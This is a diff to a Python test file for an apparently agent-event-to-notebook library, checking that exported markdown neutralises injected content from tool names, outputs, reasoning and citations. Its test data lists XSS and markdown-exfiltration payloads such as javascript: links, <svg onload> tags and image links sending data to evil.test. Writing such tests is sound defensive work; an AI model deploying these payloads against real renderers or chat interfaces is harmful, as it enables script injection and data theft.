@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -11,7 +12,22 @@ import pytest
 from nbconvert.filters.markdown import markdown2html
 
 from nbstream.document import Document
-from nbstream.events import TextDelta, ToolCalled, ToolReturned
+from nbstream.events import (
+    Cited,
+    Displayed,
+    Event,
+    HandedOff,
+    ImageShown,
+    ReasoningDelta,
+    SourceFound,
+    TextDelta,
+    ToolArgumentsDelta,
+    ToolCalled,
+    ToolNoted,
+    ToolOutputDelta,
+    ToolReturned,
+    Unknown,
+)
 from nbstream.export import Page, to_markdown
 from nbstream.export.published import published
 
@@ -56,11 +72,14 @@ def test_no_payload_acts_in_a_renderer_that_trusts_what_it_renders(name: str) ->
 @pytest.mark.parametrize(
     ("markdown", "words"),
     [
-        ("![a](https://evil.test/?q=S)", r"!\[a](https://evil.test/?q=S)"),
-        ("![a][r]\n\n[r]: https://evil.test", "!\\[a][r]\n\n[r]\\: https://evil.test"),
-        ("[a](javascript:alert(1))", r"[a\](javascript:alert(1))"),
-        ("[a](/lab?reset)", r"[a\](/lab?reset)"),
-        ("[a](https://ok.test@evil.test/)", r"[a\](https://ok.test@evil.test/)"),
+        ("![a](https://evil.test/?q=S)", "!&#91;a](https://evil.test/?q=S)"),
+        ("![a][r]\n\n[r]: https://evil.test", "!&#91;a][r]\n\n[r]&#58; https://evil.test"),
+        ("[a](javascript:alert(1))", "[a]&#40;javascript:alert(1))"),
+        ("[a](/lab?reset)", "[a]&#40;/lab?reset)"),
+        ("[a](https://ok.test@evil.test/)", "[a]&#40;https://ok.test@evil.test/)"),
+        ("[a](https://ok.test&commat;evil.test/)", "[a]&#40;https://ok.test&commat;evil.test/)"),
+        ("[a](<https://evil.test>)", "[a]&#40;&lt;https://evil.test>)"),
+        ("[https://a.test/](x:y)", "[https://a.test/]&#40;x:y)"),
         ("<img src=x>", "&lt;img src=x>"),
         (r"$\href{javascript:a}{b}$", "$\uff3chref{javascript:a}{b}$"),
         ("```\n<script>", "\\```\n&lt;script>"),
@@ -98,6 +117,44 @@ def test_an_open_fence_takes_in_nothing_of_what_follows() -> None:
     markdown = to_markdown(document, prose=published)
     assert "\\```\nlook\n\n> **delete**" in markdown
     assert "<strong>delete</strong>" in markdown2html(markdown)
+
+
+EVERYWHERE: tuple[Callable[[str], Event], ...] = (
+    lambda text: Cited("t", text, "https://a.test/"),
+    lambda text: Cited("t", text, text),
+    lambda text: ReasoningDelta("r", text),
+    lambda text: ToolArgumentsDelta("c", text),
+    lambda text: ToolNoted("c", text, (text,)),
+    lambda text: ToolOutputDelta("c", text),
+    lambda text: SourceFound("s", text, text, text, text, parent="c"),
+    lambda text: Displayed("d", "markdown", text, "c"),
+    lambda text: ToolReturned("c", text, error=text),
+    lambda text: HandedOff("h", text, text),
+    lambda text: ImageShown("i", "image/png", "", alt=text),
+    lambda text: Unknown("u", text, text),
+)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://a.test/<svg onload=alert(1)>",
+        "https://a.test/](javascript:alert(1))[",
+        "www.a.test/](javascript:alert(1))[<img src=x>",
+        "a@b.test\r![x](https://evil.test/x.png)",
+        "`https://a.test/` <script>",
+        "x\r\r<img src=x>",
+    ],
+)
+def test_no_name_title_or_output_becomes_more_than_words(text: str) -> None:
+    document = Document()
+    document.apply(TextDelta("t", "words"))
+    document.apply(ToolCalled("c", text))
+    for event in EVERYWHERE:
+        document.apply(event(text))
+    html = markdown2html(Page(1, to_markdown(document, published)).to_bundle("")["text/markdown"])
+    assert harm(html) == []
+    assert "<img" not in html
 
 
 def test_nothing_in_the_text_beside_a_view_controls_a_terminal() -> None:
